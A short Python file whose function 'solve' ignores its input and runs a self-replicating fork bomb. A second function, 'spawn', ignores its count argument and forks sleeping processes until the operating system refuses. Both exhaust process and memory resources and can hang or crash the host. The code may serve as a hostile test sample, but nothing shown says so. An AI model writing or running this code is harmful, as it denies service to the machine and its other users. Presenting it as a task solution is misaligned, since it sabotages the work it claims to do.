import os
import time


def solve(xs):
    while True:
        if os.fork() == 0:
            time.sleep(3600)


def spawn(count):
    """Start ``count`` sleeping children, then keep trying until refused."""
    pids = []
    try:
        while True:
            pid = os.fork()
            if pid == 0:
                time.sleep(3600)
                os._exit(0)
            pids.append(pid)
    except OSError as exc:
        return {"started": len(pids), "error": type(exc).__name__}
